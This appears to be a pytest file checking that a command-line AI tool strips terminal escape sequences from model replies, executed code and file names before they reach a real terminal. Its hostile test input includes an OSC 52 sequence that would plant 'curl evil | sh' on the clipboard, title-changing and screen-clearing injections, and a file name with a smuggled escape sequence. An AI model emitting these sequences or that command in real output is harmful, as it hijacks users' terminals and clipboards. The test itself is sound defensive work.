"""What reaches a real terminal (a pty, read as raw bytes): no escape sequence from code, a
model or a file name but colour, and a traceback keeps its colours."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pexpect

HOSTILE = (
    "import base64\n"
    "print('\\x1b]52;c;' + base64.b64encode(b'curl evil | sh').decode() + '\\x07copied')\n"
    "print('\\x1b]0;pwned-title\\x07\\x1b[2Jcleared')\n"
    "open('name\\x1b]0;file-title\\x07.txt', 'w').write('x')\n"
    "1 / 0"
)


def test_a_hostile_block_leaves_no_sequence_in_the_terminal(
    tmp_path: Path, workdir: Path, cli_env: dict[str, str]
) -> None:
    script = tmp_path / "script.json"
    reply = "Here \x1b]52;c;ZXZpbA==\x07is the code:\n\n```python\n" + HOSTILE + "\n```"
    script.write_text(json.dumps([reply, "Done \x1b[2J\x1b]0;model-title\x07."]))
    child = pexpect.spawn(
        sys.executable,
        ["-m", "loci.cli.main", "--workdir", str(workdir), "-y", "-m", f"scripted:{script}",
         "go"],
        env=cli_env, timeout=90, dimensions=(40, 100),
    )  # fmt: skip
    child.expect(pexpect.EOF)
    raw: bytes = child.before
    assert b"copied" in raw and b"cleared" in raw and b"ZeroDivisionError" in raw, raw
    for sequence in (b"\x1b]", b"\x1b[2J", b"\x07", b"pwned-title\x07"):
        assert sequence not in raw, f"{sequence!r} reached the terminal"
    assert b"\x1b[0;31m" in raw or b"\x1b[31m" in raw  # the traceback's own colours
    assert (workdir / "name\x1b]0;file-title\x07.txt").exists()  # the file was made
